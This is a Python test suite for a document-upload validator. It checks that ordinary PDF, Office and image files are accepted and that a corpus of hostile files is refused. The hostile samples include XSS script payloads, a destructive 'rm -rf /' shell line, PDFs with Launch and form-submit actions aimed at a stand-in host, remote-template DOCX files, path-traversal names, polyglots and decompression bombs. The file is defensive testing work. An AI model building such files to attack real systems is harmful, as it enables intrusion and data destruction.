"""What a document is, judged by its content: the kinds that are taken, and a corpus of nasty files that are not."""

import io
import struct
import time
import zipfile
import zlib
from contextlib import suppress

import pikepdf
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from bosetting.felles import filtype, filtype_pakke, filtype_pdf
from bosetting.felles.filfeil import Filfeil
from bosetting.felles.filtype import DOCX, JPEG, ODT, PDF, PNG, XLSX, kjenn_type, vurder
from tests.vedtak.dokumentfactories import pdf

W = "application/vnd.openxmlformats-officedocument.wordprocessingml."
TYPER = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    f'<Override PartName="/word/document.xml" ContentType="{W}document.main+xml"/></Types>'
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pakke(deler: dict[str, str | bytes], *, foerst_uten_pakking: bool = False) -> bytes:
    ut = io.BytesIO()
    with zipfile.ZipFile(ut, "w", zipfile.ZIP_DEFLATED) as fil:
        for nr, (navn, innhold) in enumerate(deler.items()):
            raa = foerst_uten_pakking and nr == 0
            fil.writestr(navn, innhold, zipfile.ZIP_STORED if raa else zipfile.ZIP_DEFLATED)
    return ut.getvalue()


def docx(mer: dict[str, str | bytes] | None = None, rel: str = "", typer: str = TYPER) -> bytes:
    return pakke(
        {
            "[Content_Types].xml": typer,
            "_rels/.rels": RELS.format(""),
            "word/document.xml": "<document>Vedtak</document>",
            "word/_rels/document.xml.rels": RELS.format(rel),
        }
        | (mer or {})
    )


def utenfor(slag: str, maal: str = "https://ond.example/x") -> str:
    return f'<Relationship Id="r1" Type="{REL}/{slag}" Target="{maal}" TargetMode="External"/>'


def odt(innhold: str = "<t/>", mer: dict[str, str] | None = None, mime: str = filtype.ODT.mime) -> bytes:
    return pakke({"mimetype": mime, "content.xml": innhold} | (mer or {}), foerst_uten_pakking=True)


def odt_med_lenke(element: str, maal: str) -> bytes:
    return odt(f'<t xmlns:x="http://www.w3.org/1999/xlink"><{element} x:href="{maal}"/></t>')


def xlsx() -> bytes:
    ut = io.BytesIO()
    bok = xlsxwriter.Workbook(ut)
    bok.add_worksheet().write(0, 0, "Vedtak")
    bok.close()
    return ut.getvalue()


def bit(slag: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + slag + data + zlib.crc32(slag + data).to_bytes(4, "big")


def png(bredde: int = 2, hoyde: int = 2) -> bytes:
    hode = struct.pack(">IIBBBBB", bredde, hoyde, 8, 0, 0, 0, 0)
    data = bit(b"IDAT", zlib.compress(b"\0\0\0\0\0\0"))
    return b"\x89PNG\r\n\x1a\n" + bit(b"IHDR", hode) + data + bit(b"IEND", b"")


def jpeg(bredde: int = 8, hoyde: int = 8) -> bytes:
    app = b"\xff\xe0\x00\x10JFIF\0\1\1\0\0\1\0\1\0\0"
    ramme = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", hoyde, bredde) + b"\x01\x01\x11\x00"
    return (
        b"\xff\xd8"
        + app
        + ramme
        + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
        + b"\x12\xff\x00\x34"
        + b"\xff\xd9"
    )


def pdf_med(endre, **valg) -> bytes:
    fil, ut = pikepdf.new(), io.BytesIO()
    fil.add_blank_page()
    endre(fil)
    fil.save(ut, **valg)
    return ut.getvalue()


def handling(slag: str, **felt):
    def endre(fil):
        fil.Root.OpenAction = fil.make_indirect(pikepdf.Dictionary(S=pikepdf.Name(f"/{slag}"), **felt))

    return endre


def vedlegg(fil):
    fil.attachments["ond.exe"] = b"MZ"


def polyglott_med_kommentar() -> bytes:
    ut = io.BytesIO(pdf())
    with zipfile.ZipFile(ut, "a") as fil:
        fil.writestr("A.class", b"x")
        fil.comment = b"\n%%EOF\n"
    return ut.getvalue()


def med_noe_imellom() -> bytes:
    """Return a package with room for another file between its members and its directory."""
    hel = docx()
    slutt = hel.rfind(b"PK\x05\x06")
    stoerrelse, sted = struct.unpack_from("<II", hel, slutt + 12)
    gjemt = HTML * 3
    ny_slutt = hel[slutt : slutt + 16] + struct.pack("<I", sted + len(gjemt)) + hel[slutt + 20 :]
    return hel[:sted] + gjemt + hel[sted:slutt] + ny_slutt


@pytest.mark.parametrize(
    ("innhold", "type_"),
    [
        (pdf(), PDF),
        (pdf_med(lambda fil: None, object_stream_mode=pikepdf.ObjectStreamMode.generate), PDF),
        (docx(), DOCX),
        (docx(rel=utenfor("hyperlink")), DOCX),
        (docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx()}), DOCX),
        (docx(rel=utenfor("attachedTemplate", "file:///C:\\Users\\kari\\Normal.dotm")), DOCX),
        (docx({"word/media/image1.svg": "<svg/>", "customXml/item1.xml": ""}), DOCX),
        (xlsx(), XLSX),
        (odt(), ODT),
        (odt_med_lenke("a", "https://imdi.no/"), ODT),
        (odt_med_lenke("image", "Pictures/1.png"), ODT),
        (odt_med_lenke("template", "../../maler/brev.ott"), ODT),
        (
            odt(mer={"Configurations2/images/Bitmaps/": "", "Configurations2/accelerator/current.xml": ""}),
            ODT,
        ),
        (png(), PNG),
        (jpeg(), JPEG),
        (jpeg() + jpeg(), JPEG),
    ],
)
def test_what_people_send_is_known_by_its_content(innhold, type_):
    assert kjenn_type(innhold) is type_
    for endelse in type_.endelser:
        assert vurder(innhold, f"Vedtak.{endelse.upper()}") is type_


NASTY = {
    "tom": (b"", "tom"),
    "bare nuller": (bytes(500), "tom"),
    "html": (HTML, "nettside, SVG eller XML"),
    "html etter tomrom": (b"\xef\xbb\xbf \n" + HTML, "nettside, SVG eller XML"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "nettside, SVG eller XML"),
    "svg med xml": (b"<?xml version='1.0'?><svg/>", "nettside, SVG eller XML"),
    "eicar": (EICAR, "Filtypen tas ikke imot"),
    "program": (b"MZ" + bytes(300) + b"x", "er et program"),
    "skall": (b"#!/bin/sh\nrm -rf /", "er et program"),
    "java": (b"\xca\xfe\xba\xbe\0\0\0\x34", "er et program"),
    "gammel word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "gammelt format"),
    "word med passord": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        "beskyttet med passord",
    ),
    "heic": (b"\0\0\0\x18ftypheic" + bytes(20) + b"x", "HEIC"),
    "gif": (b"GIF89a" + b"x" * 20, "PDF, PNG eller JPEG"),
    "tekst": (b"Kommunestyret vedtok", "Filtypen tas ikke imot"),
    # Two files in one
    "html foran pdf": (HTML + pdf(), "nettside"),
    "html i pdf-hodet": (b"%PDF-1.4\n%<html><script>" + pdf()[9:], "noe annet enn den gir seg ut for"),
    "zip bak pdf": (pdf() + pakke({"a": "b"}), "noe annet enn den gir seg ut for"),
    "zip bak pdf, med %%EOF": (polyglott_med_kommentar(), "noe annet enn den gir seg ut for"),
    "html bak pdf": (pdf() + HTML, "noe annet enn den gir seg ut for"),
    "zip bak png": (png() + pakke({"a": "b"}), "noe annet enn den gir seg ut for"),
    "jar bak jpeg": (jpeg() + pakke({"META-INF/MANIFEST.MF": ""}), "noe annet enn den gir seg ut for"),
    "html bak jpeg": (jpeg() + HTML, "noe annet enn den gir seg ut for"),
    "pdf i jpeg": (jpeg()[:20] + b"%PDF-1.4" + jpeg()[20:], "noe annet enn den gir seg ut for"),
    "pdf foran docx": (b"%PDF-1.4\n" + docx(), "noe annet enn den gir seg ut for"),
    "noe bak docx": (docx() + HTML, "noe annet enn den gir seg ut for"),
    "noe inni docx": (med_noe_imellom(), "noe annet enn den gir seg ut for"),
    # What runs or fetches
    "makroer": (docx({"word/vbaProject.bin": b"x"}), "makroer"),
    "docm": (docx(typer=TYPER.replace(f"{W}document.main", "application/vnd.ms-word.macroEnabled.main")), "makroer"),
    "activex": (docx({"word/activeX/activeX1.bin": b"x"}), "makroer"),
    "ole": (docx({"word/embeddings/oleObject1.bin": b"x"}), "makroer"),
    "html inni docx": (docx({"word/afchunk.html": HTML}), "makroer"),
    "makroer i regneark inni": (docx({"word/embeddings/a.xlsx": docx({"word/vbaProject.bin": b"x"})}), "makroer"),
    "mal fra nettet": (docx(rel=utenfor("attachedTemplate")), "henter innhold fra andre steder"),
    "mal fra en annen maskin": (docx(rel=utenfor("attachedTemplate", "\\\\ond.example\\a.dotm")), "henter innhold"),
    "bilde fra nettet": (docx(rel=utenfor("image")), "henter innhold fra andre steder"),
    "annen bok": (docx({"xl/externalLinks/externalLink1.xml": "<a/>"}), "henter innhold fra andre steder"),
    "odt-bilde fra nettet": (odt_med_lenke("image", "https://ond.example/x.png"), "henter innhold"),
    "odt-bilde fra disk": (odt_med_lenke("image", "../../etc/passwd"), "henter innhold"),
    "odt-makro": (odt(mer={"Basic/script-lc.xml": "<a/>"}), "makroer"),
    "odt-hendelse": (odt("<t><event-listener/></t>"), "makroer"),
    "odt med passord": (odt(mer={"META-INF/manifest.xml": "<m><encryption-data/></m>"}), "passord"),
    "ods": (odt(mime="application/vnd.oasis.opendocument.spreadsheet"), "ikke et tekstdokument"),
    "pdf med skript": (pdf_med(handling("JavaScript", JS=pikepdf.String("app.alert(1)"))), "skript"),
    "pdf med gjemt skript": (
        pdf_med(
            handling("JavaScript", JS=pikepdf.String("1")),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        "skript",
    ),
    "pdf som starter noe": (pdf_med(handling("Launch", F=pikepdf.String("cmd.exe"))), "skript"),
    "pdf som sender": (pdf_med(handling("SubmitForm", F=pikepdf.String("https://ond.example"))), "skript"),
    "pdf med vedlegg": (pdf_med(vedlegg), "andre filer inni seg"),
    "pdf med passord": (pdf_med(lambda fil: None, encryption=pikepdf.Encryption(owner="a", user="b")), "passord"),
    # Damaged, and bombs
    "avkortet pdf": (pdf()[:200], "ødelagt"),
    "bare begynnelsen på pdf": (b"%PDF-1.4\n%%EOF", "ødelagt"),
    "avkortet docx": (docx()[:-30], "ødelagt"),
    "avkortet png": (png()[:-6], "ødelagt"),
    "png med feil sum": (png()[:40] + b"\xee" + png()[41:], "ødelagt"),
    "avkortet jpeg": (jpeg()[:-2], "ødelagt"),
    "jpeg uten bilde": (b"\xff\xd8\xff\xd9", "ødelagt"),
    "pikselbombe": (png(60_000, 60_000), "for mange piksler"),
    "pikselbombe i jpeg": (jpeg(65_000, 65_000), "for mange piksler"),
    "zip": (pakke({"a.txt": "b"}), "pakket fil (.zip)"),
    "zip-bombe": (docx({"word/media/a.bin": bytes(30_000_000)}), "urimelig stor"),
    "mange deler": (docx({f"d{nr}": "" for nr in range(filtype_pakke.MAKS_MEDLEMMER)}), "urimelig stor"),
    "sti i pakken": (docx({"../../etc/cron.d/x": "x"}), "ødelagt"),
    "entiteter": (docx({"word/x.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "ødelagt"),
    "dype elementer": (docx({"word/x.xml": "<a>" * 5000 + "</a>" * 5000}), "ødelagt"),
    "ikke xml": (docx({"word/x.xml": "hei"}), "ødelagt"),
}  # fmt: skip


@pytest.mark.parametrize("navn", NASTY)
def test_what_could_do_harm_is_refused_in_words_and_at_once(navn):
    innhold, grunn = NASTY[navn]
    start = time.monotonic()
    with pytest.raises(Filfeil) as feil:
        kjenn_type(innhold)
    assert grunn in feil.value.grunn
    assert time.monotonic() - start < 15


@pytest.mark.parametrize("navn", ["vedtak.docx", "vedtak", "vedtak.pdf.exe", "pdf", ""])
def test_the_name_must_say_what_the_content_is(navn):
    with pytest.raises(Filfeil, match="Filen er PDF, men navnet slutter ikke på .pdf"):
        vurder(pdf(), navn)


def test_a_pdf_that_takes_for_ever_is_given_up(monkeypatch, tmp_path):
    evig = tmp_path / "evig.py"
    evig.write_text("while True: pass")
    monkeypatch.setattr(filtype_pdf, "PROSESS", evig)
    monkeypatch.setattr(filtype_pdf, "TIDSGRENSE", 0.5)
    with pytest.raises(Filfeil, match="for innfløkt"):
        kjenn_type(pdf())


def test_a_busy_reader_is_told_of(monkeypatch):
    monkeypatch.setattr(filtype_pdf, "VENTETID", 0.05)
    with filtype_pdf._en_om_gangen, pytest.raises(Filfeil, match="Mange laster opp"):
        kjenn_type(pdf())
    assert kjenn_type(pdf()) is PDF


@pytest.mark.parametrize(
    "innhold",
    [
        b"\xff\xd8\xff" + b"\xff" * 20_000_000,
        b"\xff\xd8\xff\xe0\x00\x02" * 3_000_000,
        jpeg()[:-2] + b"\xff\x00" * 10_000_000,
        png()[:33] + bit(b"tEXt", b"") * 1_000_000,
    ],
)
def test_pictures_made_to_be_slow_are_not(innhold):
    start = time.monotonic()
    with pytest.raises(Filfeil):
        kjenn_type(innhold)
    assert time.monotonic() - start < 10


def bok_med_mye(antall: int) -> bytes:
    """A workbook of little more than a kilobyte for each 250 000 bytes that it unpacks to."""
    del_ = "<a>" + "<b/>" * 60_000 + "</a>"
    typer = TYPER.replace(f"{W}document", f"{W.replace('wordprocessing', 'spreadsheet')}sheet")
    return docx({f"xl/{nr}.xml": del_ for nr in range(antall)}, typer=typer)


def test_a_document_and_those_inside_it_share_one_limit():
    """Ten kilobytes kept a reader busy for twenty seconds, and a megabyte would have for half an hour."""
    assert kjenn_type(docx({"word/embeddings/a.xlsx": bok_med_mye(2)})) == DOCX
    innhold = docx({f"word/embeddings/{nr}.xlsx": bok_med_mye(40) for nr in range(10)})
    start = time.monotonic()
    with pytest.raises(Filfeil):
        kjenn_type(innhold)
    assert time.monotonic() - start < 10


def test_what_unpacks_to_much_inside_a_document_is_refused_before_it_is_unpacked(monkeypatch):
    medier = {f"word/media/{nr}.bin": bytes(250_000) for nr in range(500)}
    med_bok = {f"word/embeddings/{nr}.xlsx": docx(medier) for nr in range(2)}
    with pytest.raises(Filfeil, match="urimelig stor"):
        kjenn_type(docx(med_bok))
    monkeypatch.setattr(filtype_pakke, "MAKS_INNBAKT", 1000)
    with pytest.raises(Filfeil, match="urimelig stor"):
        kjenn_type(docx({"word/embeddings/a.xlsx": bok_med_mye(1)}))


def judge(innhold: bytes) -> None:
    """Judge: a kind of file or a refusal in words, and nothing else."""
    with suppress(Filfeil):
        assert kjenn_type(innhold) in filtype.TYPER


@settings(max_examples=300)
@given(
    st.sampled_from([b"", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"%PDF-", b"<"]), st.binary()
)
def test_any_bytes_get_an_answer(hode, resten):
    judge(hode + resten)


@settings(max_examples=25)
@given(st.data())
def test_damaged_pdfs_get_an_answer(data):
    hel = pdf()
    sted = data.draw(st.integers(9, len(hel) - 6))
    judge(
        hel[:sted]
        + data.draw(st.binary(max_size=8))
        + hel[min(sted + data.draw(st.integers(0, 40)), len(hel) - 6) :]
    )


@settings(max_examples=300)
@given(st.sampled_from([docx(), odt(), xlsx(), png(), jpeg()]), st.data())
def test_damaged_files_get_an_answer(hel, data):
    sted = data.draw(st.integers(0, len(hel)))
    bytt = data.draw(st.binary(max_size=8))
    judge(hel[:sted] + bytt + hel[sted + data.draw(st.integers(0, 40)) :])
